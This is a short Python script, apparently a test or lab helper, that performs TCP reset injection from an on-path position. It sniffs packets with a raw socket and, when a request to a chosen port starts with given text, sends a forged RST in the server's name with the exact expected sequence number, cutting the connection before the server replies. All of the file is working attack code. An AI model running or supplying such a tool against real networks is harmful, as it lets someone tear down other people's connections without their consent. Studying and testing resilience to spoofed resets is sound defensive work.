"""Ends other people's TCP connections, as somebody on the way who reads along can: when a request that starts
with one of the given texts goes by, a RST with the very number that is expected next is sent to its sender
in the server's name, before the server answers. For each text one connection is ended; a RST that came after
the answer is not believed, and the next request of that connection gets another. Needs CAP_NET_RAW.
Arguments: PORT TEXT….

Says `listening`, and `forged TEXT` for the first RST of each.
"""
import socket
import struct
import sys

port, wanted = int(sys.argv[1]), [text.encode() for text in sys.argv[2:]]
ETH_P_IP = 0x0800
RST_ACK = 0x14


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


ears = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
mouth = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
print("listening", flush=True)
victims, told = {}, set()
while True:
    packet = ears.recv(65536)
    if packet[9] != socket.IPPROTO_TCP:
        continue
    segment = packet[(packet[0] & 15) * 4 : struct.unpack("!H", packet[2:4])[0]]
    sender, target, sequence, expected, offset = struct.unpack("!HHIIB", segment[:13])
    payload = segment[(offset >> 4) * 4 :]
    text = next((text for text in wanted if payload.startswith(text)), None)
    if target != port or text is None or victims.setdefault(text, sender) != sender:
        continue
    there, here = packet[12:16], packet[16:20]
    answered = (sequence + len(payload)) & 0xFFFFFFFF
    head = struct.pack("!HHIIBBHHH", target, sender, expected, answered, 5 << 4, RST_ACK, 0, 0, 0)
    pseudo = here + there + struct.pack("!HH", socket.IPPROTO_TCP, len(head))
    mouth.sendto(head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:], (socket.inet_ntoa(there), 0))
    if text not in told:
        told.add(text)
        print("forged", text.decode(), flush=True)
